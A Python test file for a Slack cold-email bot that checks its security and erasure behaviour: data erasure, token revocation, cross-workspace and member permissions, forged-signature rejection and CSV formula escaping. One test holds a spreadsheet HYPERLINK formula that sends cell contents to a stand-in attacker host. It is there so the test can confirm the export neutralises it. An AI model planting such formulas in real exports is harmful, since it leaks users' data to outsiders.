"""Issue 23, as an attacker tries it: who may do what inside a workspace, across workspaces, and
what stays erased. One test per attack the issue found and per check that held; storage on both
databases, the Slack side over signed HTTP against the fakes."""

from __future__ import annotations

import csv
import io
import json
import logging
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta

import pytest
from cryptography.fernet import Fernet
from helpers import (
    BRIEF,
    all_text,
    coldcopy,
    email_steps,
    generations,
    install,
    oauth_overrides,
    open_form,
    used,
)
from sqlalchemy import insert, select, update

from bot.slack import constants as K
from bot.writing.events import SequenceEmail
from bot.writing.export import export_sequence
from bot.writing.export_formats import EXPORT_FORMATS
from storage.db import reading, transaction
from storage.encryption import TokenCipher, unreadable_tokens
from storage.erasure import ERASED, forget_user_tokens
from storage.feedback import votes_for
from storage.generations import claim_generation, get_generation, save_progress
from storage.ledger import (
    CommitRefused,
    Delivery,
    Reserved,
    commit_generation,
    reserve_generation,
)
from storage.migrate import upgrade
from storage.models import EmailRewrite, Workspace, slack_bots, slack_installations
from storage.presses import first_press
from storage.quota import QuotaPolicy
from storage.retention import erase_expired_briefs, forget_workspace
from storage.rewrites import fail_rewrite, finish_rewrite, rewrite_history, start_rewrite
from storage.settings import read_settings, save_settings, settings_history
from storage.tokens import TokenUsage
from storage.workspaces import ensure_workspace
from testkit.fakes.anthropic import sample_sequence
from testkit.fakes.stripe import FakeStripe
from testkit.harness import SignedSlackClient
from testkit.waiting import wait_until

POLICY = QuotaPolicy(free=5, pro=200)
W = Workspace.__table__
R = EmailRewrite.__table__


def stored_sequence() -> list[dict]:
    return [
        SequenceEmail.from_dict({**email, "step": step}).as_dict()
        for step, email in enumerate(sample_sequence(), 1)
    ]


def reserved(engine, key: str, team: str = "T1") -> str:
    outcome = reserve_generation(
        engine,
        POLICY,
        team_id=team,
        user_id="U1",
        channel_id="C1",
        idempotency_key=key,
        brief={"company": "Acme", "problem": "secret problem"},
        model="claude-test",
    )
    assert isinstance(outcome, Reserved)
    return outcome.generation_id


def finished(engine, key: str = "done") -> str:
    generation_id = reserved(engine, key)
    commit_generation(
        engine, generation_id, Delivery(stored_sequence(), "claude-test", TokenUsage(input=1))
    )
    return generation_id


def workspace_used(engine, team: str = "T1") -> int:
    with reading(engine) as conn:
        return conn.execute(select(W.c.used).where(W.c.team_id == team)).scalar_one()


# --- erasure: forget, uninstall and token revocation stop the work first ----------------------


def test_forgetting_stops_a_running_generation_and_refuses_its_writes_and_commit(engine):
    running = reserved(engine, "running")
    queued = reserved(engine, "queued")
    claim_generation(engine, running, owner="worker-1", lease_seconds=60)
    assert workspace_used(engine) == 2

    forget_workspace(engine, "T1")

    for generation_id in (running, queued):
        gen = get_generation(engine, generation_id)
        assert (gen.status, gen.error, gen.quota_state) == ("failed", ERASED, "released")
        assert gen.brief is None and gen.sequence is None
    assert workspace_used(engine) == 0  # both units given back
    # The lease holder carries on, unaware: every write and the final commit are refused.
    assert not save_progress(engine, running, owner="worker-1", emails=stored_sequence()[:2])
    with pytest.raises(CommitRefused):
        commit_generation(engine, running, Delivery(stored_sequence(), "m", TokenUsage()))
    after = get_generation(engine, running)
    assert after.sequence is None and after.status == "failed"
    # Nobody claims it again (no sweeper, no takeover writes it back).
    assert claim_generation(engine, running, owner="worker-2", lease_seconds=60) is None


def test_forgetting_during_a_rewrite_fails_it_and_its_result_is_never_written(engine):
    generation_id = finished(engine)
    started = start_rewrite(
        engine,
        generation_id=generation_id,
        team_id="T1",
        step=2,
        user_id="U1",
        change="shorter",
        cap=20,
    )
    forget_workspace(engine, "T1")
    with reading(engine) as conn:
        rewrite = conn.execute(select(R).where(R.c.id == started.rewrite_id)).one()
    assert (rewrite.status, rewrite.error) == ("failed", ERASED)
    email = {**stored_sequence()[1], "body": "Written back?"}
    assert finish_rewrite(engine, started.rewrite_id, email, model="m", tokens=TokenUsage()) is None
    assert get_generation(engine, generation_id).sequence is None
    # A failure after it (the model gave up) neither overwrites why it stopped nor tells anyone.
    assert not fail_rewrite(engine, started.rewrite_id, "timeout")
    with reading(engine) as conn:
        assert (
            conn.execute(select(R.c.error).where(R.c.id == started.rewrite_id)).scalar() == ERASED
        )


def seed_installation(engine, *, user_token: str | None, key: str | None = None) -> None:
    cipher = TokenCipher(key) if key else None
    seal = cipher.encrypt if cipher else (lambda v: v)
    now = datetime.now(UTC).replace(tzinfo=None)
    with transaction(engine) as conn:
        conn.execute(
            insert(slack_installations).values(
                client_id="111.222",
                app_id="A1",
                team_id="T1",
                user_id="U1",
                bot_token=seal("xoxb-bot"),
                bot_id="B1",
                bot_user_id="U0BOT",
                user_token=seal(user_token) if user_token else None,
                installed_at=now,
            )
        )
        conn.execute(
            insert(slack_bots).values(
                client_id="111.222",
                app_id="A1",
                team_id="T1",
                bot_token=seal("xoxb-bot"),
                bot_id="B1",
                bot_user_id="U0BOT",
                installed_at=now,
            )
        )


def test_revoking_one_users_token_deletes_only_that_token(engine):
    generation_id = finished(engine)
    seed_installation(engine, user_token="xoxp-user")
    save_settings(engine, "T1", {"about_us": "We ship"}, changed_by="UADMIN")

    assert forget_user_tokens(engine, "T1", ["U1"]) == 1

    with reading(engine) as conn:
        row = conn.execute(select(slack_installations)).one()
        assert row.user_token is None and row.bot_token == "xoxb-bot"
        assert conn.execute(select(slack_bots.c.bot_token)).scalar_one() == "xoxb-bot"
    assert get_generation(engine, generation_id).brief is not None
    assert settings_history(engine, "T1") != []


def test_retention_erases_the_settings_history_with_the_briefs(engine):
    old = datetime.now(UTC) - timedelta(days=100)
    save_settings(engine, "T1", {"about_us": "Our first plan"}, changed_by="UADMIN", now=old)
    again = {"about_us": "Our first plan", "never_use": "synergy"}
    save_settings(engine, "T1", again, changed_by="UADMIN")
    erase_expired_briefs(engine, 90)
    history = settings_history(engine, "T1")
    assert [list(change.changes) for change in history] == [["never_use"]]


# --- idempotent buttons, without Redis -------------------------------------------------------


def test_a_button_pressed_twice_at_once_is_one_press_in_the_database(engine):
    generation_id = finished(engine)
    barrier = threading.Barrier(8)

    def press(_):
        barrier.wait()
        return first_press(engine, generation_id, "U1", "regenerate")

    with ThreadPoolExecutor(8) as pool:
        presses = list(pool.map(press, range(8)))
    assert len([p for p in presses if p is not None]) == 1
    # Another person's press, or the same person's a minute later, counts again.
    assert first_press(engine, generation_id, "U2", "regenerate") is not None
    later = datetime.now(UTC) + timedelta(minutes=1)
    assert first_press(engine, generation_id, "U1", "regenerate", now=later) is not None
    # A double click across a bucket's edge is still one press.
    edge = datetime.fromtimestamp((int(later.timestamp()) // 10 + 1) * 10, UTC)
    assert first_press(engine, generation_id, "U3", "retry", now=edge - timedelta(seconds=0.2))
    assert (
        first_press(engine, generation_id, "U3", "retry", now=edge + timedelta(seconds=0.2)) is None
    )


# --- the start-up key check ------------------------------------------------------------------


def test_tokens_that_do_not_decrypt_are_found_at_start_up(engine):
    right, wrong = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    seed_installation(engine, user_token="xoxp-user", key=right)
    with reading(engine) as conn:
        assert unreadable_tokens(conn, TokenCipher(right)) == 0
        assert unreadable_tokens(conn, TokenCipher(wrong)) == 2
        assert unreadable_tokens(conn, TokenCipher(f"{wrong},{right}")) == 0
        assert unreadable_tokens(conn, None) == 2


def assert_one_line_naming_the_key(stderr: str) -> None:
    # Log records (JSON lines) may come first; the problem itself is one line.
    said = [line for line in stderr.strip().splitlines() if not line.startswith("{")]
    assert len(said) == 1 and "COLDCOPY_ENCRYPTION_KEY" in said[0], stderr
    assert "Traceback" not in stderr


@pytest.mark.parametrize("command", ["serve", "socket"])
def test_serve_and_socket_exit_2_naming_the_key_when_tokens_do_not_decrypt(
    command, tmp_path, sqlite_engine, sqlite_url
):
    seed_installation(sqlite_engine, user_token=None, key=Fernet.generate_key().decode())
    result = coldcopy(
        command,
        cwd=tmp_path,
        DATABASE_URL=sqlite_url,
        SLACK_CLIENT_ID="111.222",
        SLACK_CLIENT_SECRET="secret",
        SLACK_SIGNING_SECRET="signing",
        SLACK_APP_TOKEN="xapp-1",
        ANTHROPIC_API_KEY="sk-ant-test",
        COLDCOPY_ENCRYPTION_KEY=Fernet.generate_key().decode(),
    )
    assert result.returncode == 2, result.stderr
    assert_one_line_naming_the_key(result.stderr)


def test_worker_exits_2_naming_the_key_when_tokens_do_not_decrypt(tmp_path, postgres_url):
    from storage.db import make_engine

    engine = make_engine(postgres_url, pool_size=1)
    upgrade(engine)
    seed_installation(engine, user_token=None, key=Fernet.generate_key().decode())
    engine.dispose()
    result = coldcopy(
        "worker",
        cwd=tmp_path,
        DATABASE_URL=postgres_url,
        SLACK_CLIENT_ID="111.222",
        SLACK_CLIENT_SECRET="secret",
        SLACK_SIGNING_SECRET="signing",
        ANTHROPIC_API_KEY="sk-ant-test",
        COLDCOPY_ENCRYPTION_KEY=Fernet.generate_key().decode(),
    )
    assert result.returncode == 2, result.stderr
    assert_one_line_naming_the_key(result.stderr)


# --- over HTTP: a member, another workspace, and erasure while work runs ----------------------


def finished_sequence(app, slack, claude, engine, user: str = "U1"):
    """A sequence written by `user` in C1, finished: its generation row."""
    claude.enqueue_sequence()
    app.submit(open_form(app, slack, user=user), BRIEF, user=user)
    wait_until(lambda: any(g.status == "succeeded" for g in generations(engine)))
    gen = get_generation(engine, generations(engine)[0].id)
    wait_until(lambda: all(e.get("ts") for e in get_generation(engine, gen.id).sequence))
    wait_until(
        lambda: ":white_check_mark:" in str(slack.message(gen.posted_channel_id, gen.parent_ts))
    )
    return get_generation(engine, gen.id)


def vote(app, gen, step: str, user: str = "U2", channel: str | None = None):
    action = {
        "type": "feedback_buttons",
        "action_id": K.FEEDBACK_ACTION,
        "block_id": "b",
        "value": f"positive|{gen.id}|{step}",
    }
    return app.act(action, user=user, channel=channel or gen.posted_channel_id)


def test_feedback_outside_the_sequence_is_ignored_without_a_traceback(
    make_app, slack, claude, sqlite_engine, caplog
):
    app = make_app()
    gen = finished_sequence(app, slack, claude, sqlite_engine)
    caplog.set_level(logging.INFO)
    for step in ("50", "999", "123456", "99999999999", "0", "-1", "07", "8"):
        assert vote(app, gen, step).status == 200
    vote(app, gen, "7", user="U1")
    wait_until(lambda: votes_for(sqlite_engine, gen.id))
    assert votes_for(sqlite_engine, gen.id) == {(7, "U1"): "positive"}
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info]


def test_feedback_votes_are_rate_limited_per_user(make_app, slack, claude, sqlite_engine):
    app = make_app(feedback_rate="2/minute")
    gen = finished_sequence(app, slack, claude, sqlite_engine)
    for step in (1, 2):
        vote(app, gen, str(step))
        wait_until(lambda s=step: (s, "U2") in votes_for(sqlite_engine, gen.id))
    vote(app, gen, "3")
    vote(app, gen, "3", user="U1")  # another person is not held back by U2's limit
    wait_until(lambda: (3, "U1") in votes_for(sqlite_engine, gen.id))
    assert (3, "U2") not in votes_for(sqlite_engine, gen.id)


def test_another_member_exports_and_rates_only_where_the_sequence_was_posted(
    make_app, slack, claude, sqlite_engine
):
    app = make_app()
    gen = finished_sequence(app, slack, claude, sqlite_engine)
    value = f"{gen.id}:generic"
    # From a conversation that does not show the thread: nothing, as if there were no such.
    app.choose(K.EXPORT_ACTION, value, label="CSV", user="U2", channel="CELSEWHERE")
    answer = slack.wait_for("response_url")[-1].params
    assert "no longer available" in answer["text"]
    vote(app, gen, "1", channel="CELSEWHERE")
    # In the thread's own conversation, anyone in the workspace may.
    vote(app, gen, "2")
    app.choose(K.EXPORT_ACTION, value, label="CSV", user="U2", channel=gen.posted_channel_id)
    wait_until(lambda: slack.uploads and (2, "U2") in votes_for(sqlite_engine, gen.id))
    assert len(slack.uploads) == 1 and (1, "U2") not in votes_for(sqlite_engine, gen.id)
    assert BRIEF["problem"] not in all_text(slack.calls_to("chat.postEphemeral"))


def test_a_double_regenerate_across_two_processes_without_redis_costs_one_unit(
    make_app, slack, claude, sqlite_engine
):
    first, second = make_app(), make_app()
    gen = finished_sequence(first, slack, claude, sqlite_engine)
    claude.enqueue_sequence()
    claude.enqueue_sequence()
    first.click(K.REGENERATE_ACTION, gen.id, channel=gen.posted_channel_id)
    second.click(K.REGENERATE_ACTION, gen.id, channel=gen.posted_channel_id)
    wait_until(lambda: len([g for g in generations(sqlite_engine) if g.status == "succeeded"]) == 2)
    assert len(generations(sqlite_engine)) == 2 and used(sqlite_engine) == 2


def test_regenerate_and_edit_brief_from_another_workspace_find_nothing(
    make_app, slack, claude, sqlite_engine
):
    app = make_app()
    gen = finished_sequence(app, slack, claude, sqlite_engine)
    intruder = SignedSlackClient(app.url, app.verifier.signing_secret, "T0002", slack=slack)
    intruder.click(K.REGENERATE_ACTION, gen.id, user="U1", channel=gen.posted_channel_id)
    intruder.click(K.EDIT_BRIEF_ACTION, gen.id, user="U1", channel=gen.posted_channel_id)
    answers = slack.wait_for("response_url", count=2)
    assert all("no longer available" in a.params["text"] for a in answers[-2:])
    assert len(generations(sqlite_engine)) == 1 and len(slack.calls_to("views.open")) == 1
    assert BRIEF["problem"] not in all_text(slack.calls_to("response_url"))


def test_a_member_forging_a_settings_submission_changes_nothing(
    make_app, slack, claude, sqlite_engine
):
    app = make_app()
    app.slash("settings", user="UADMIN")
    view = slack.wait_for("views.open")[-1].params["view"]
    app.submit(view, {"product": "Hijacked by a member"}, user="U1")
    shown = slack.wait_for("views.update")[-1].params["view"]
    assert "Only workspace admins and owners" in json.dumps(shown)
    assert read_settings(sqlite_engine, "T0001")["product"] is None


def test_a_member_cannot_open_the_billing_portal_of_a_paying_workspace(
    make_app, slack, claude, sqlite_engine
):
    with FakeStripe() as stripe:
        app = make_app(
            stripe_secret_key=stripe.api_key,
            stripe_price_id="price_pro_monthly",
            stripe_webhook_secret="whsec_test",
            stripe_api_base=stripe.base_url,
            public_url="https://coldcopy.example",
        )
        stripe.customers["cus_paying"] = {"id": "cus_paying", "object": "customer"}
        with transaction(sqlite_engine) as conn:
            ensure_workspace(conn, "T0001")
            conn.execute(
                update(W)
                .where(W.c.team_id == "T0001")
                .values(plan="pro", stripe_customer_id="cus_paying")
            )
        app.slash("upgrade", user="U1")
        app.click(K.MANAGE_BILLING_ACTION, "portal", user="U1")
        answers = slack.wait_for("response_url", count=2)
        assert all("Only workspace admins and owners" in all_text([a]) for a in answers)
        assert stripe.portal_sessions == {}
        app.slash("upgrade", user="UADMIN")  # the same path opens it for an admin
        wait_until(lambda: stripe.portal_sessions)


def test_uninstalling_while_a_sequence_is_written_stops_it_and_nothing_is_written_back(
    make_app, slack, claude, sqlite_engine
):
    app = make_app(**oauth_overrides())
    install(app)
    reply = claude.enqueue_sequence(tokens_per_second=60)
    app.submit(open_form(app, slack), BRIEF)
    wait_until(lambda: len(email_steps(slack)) >= 2)
    assert app.event({"type": "app_uninstalled"}, event_id="EvUninstall").status == 200
    wait_until(lambda: generations(sqlite_engine)[0].status == "failed")
    posted = len(email_steps(slack))
    assert reply.finished.wait(60)
    # The live draft is closed and removed: the last thing the stopped run does.
    wait_until(lambda: slack.calls_to("chat.delete"))
    gen = generations(sqlite_engine)[0]
    assert (gen.error, gen.brief, gen.sequence, gen.quota_state) == (ERASED, None, None, "released")
    assert used(sqlite_engine) == 0
    # At most the email already on its way when the erasure landed; no notice, no ending.
    assert len(email_steps(slack)) <= posted + 1 < 7
    said = all_text(slack.calls)
    assert "Something went wrong" not in said and ":white_check_mark:" not in said


def test_revoking_a_users_token_keeps_the_workspace_installed(
    make_app, slack, claude, sqlite_engine
):
    app = make_app(**oauth_overrides())
    install(app)
    with reading(sqlite_engine) as conn:
        installer = conn.execute(select(slack_installations.c.user_id)).scalar_one()
    revoked = {"type": "tokens_revoked", "tokens": {"oauth": [installer]}}
    assert app.event(revoked, event_id="EvRevoked").status == 200
    wait_until(lambda: _user_token(sqlite_engine) is None)
    # The bot still answers: the form opens with its token.
    open_form(app, slack)
    with reading(sqlite_engine) as conn:
        assert conn.execute(select(slack_bots.c.bot_token)).scalar_one() is not None


def _user_token(engine):
    with reading(engine) as conn:
        return conn.execute(select(slack_installations.c.user_token)).scalar_one()


def test_another_member_can_neither_regenerate_nor_rewrite_a_sequence(
    make_app, slack, claude, sqlite_engine
):
    app = make_app()
    gen = finished_sequence(app, slack, claude, sqlite_engine)
    app.click(K.REGENERATE_ACTION, gen.id, user="U2", channel=gen.posted_channel_id)
    refusal = slack.wait_for("response_url")[-1].params["text"]
    assert "Only <@U1>, who wrote this sequence, or a workspace admin" in refusal
    overflow = {
        "type": "overflow",
        "action_id": K.REWRITE_ACTION,
        "block_id": "b",
        "selected_option": {
            "text": {"type": "plain_text", "text": "Shorter"},
            "value": f"shorter|{gen.id}|2",
        },
    }
    app.act(overflow, user="U2", channel=gen.posted_channel_id)
    told = slack.wait_for("chat.postEphemeral")[-1].params
    assert told["user"] == "U2" and "Only <@U1>" in told["text"]
    assert len(generations(sqlite_engine)) == 1 and rewrite_history(sqlite_engine, gen.id) == []
    assert BRIEF["problem"] not in all_text(slack.calls_to("chat.postEphemeral"))


def test_exported_cells_that_would_run_as_formulas_are_neutralised():
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
    emails = [{**email, "subject_a": evil} for email in stored_sequence()]
    for fmt in EXPORT_FORMATS:
        content = export_sequence(fmt, emails, "Acme").content
        if fmt.extension != "csv":
            continue
        cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
        assert f"'{evil}" in cells and evil not in cells, fmt.key


def test_a_request_signed_with_another_secret_or_replayed_late_is_refused(make_app, slack):
    app = make_app()
    body = app.interaction_body({"type": "block_actions"})
    assert app.signed_post(body, signature="v0=" + "0" * 64).status == 401
    assert app.signed_post(body, timestamp=int(time.time()) - 3600).status == 401
    assert slack.calls_to("chat.postMessage") == []


def test_erasing_during_a_rewrite_closes_its_live_reply_and_writes_nothing_back(
    make_app, slack, claude, sqlite_engine
):
    app = make_app()
    gen = finished_sequence(app, slack, claude, sqlite_engine)
    shorter = {"subject_a": "Short", "subject_b": "Shorter", "body": "Hi [FirstName], " * 60}
    reply = claude.enqueue_tool_input(json.dumps(shorter), tokens_per_second=40, chunk_chars=4)
    streams = len(slack.calls_to("chat.startStream"))
    deleted = len(slack.calls_to("chat.delete"))
    overflow = {
        "type": "overflow",
        "action_id": K.REWRITE_ACTION,
        "block_id": "b",
        "selected_option": {
            "text": {"type": "plain_text", "text": "Shorter"},
            "value": f"shorter|{gen.id}|2",
        },
    }
    app.act(overflow, user="U1", channel=gen.posted_channel_id)
    wait_until(lambda: len(slack.calls_to("chat.startStream")) > streams)
    assert app.event({"type": "app_uninstalled"}, event_id="EvGone").status == 200
    # The preview is closed and removed while the model is still writing.
    wait_until(lambda: len(slack.calls_to("chat.delete")) > deleted)
    assert not reply.finished.is_set()
    (rewrite,) = rewrite_history(sqlite_engine, gen.id)
    assert (rewrite.status, rewrite.error) == ("failed", ERASED)
    assert get_generation(sqlite_engine, gen.id).sequence is None
    assert "Edited by" not in all_text(slack.calls_to("chat.update"))
    assert "couldn't rewrite" not in all_text(slack.calls_to("chat.postEphemeral"))
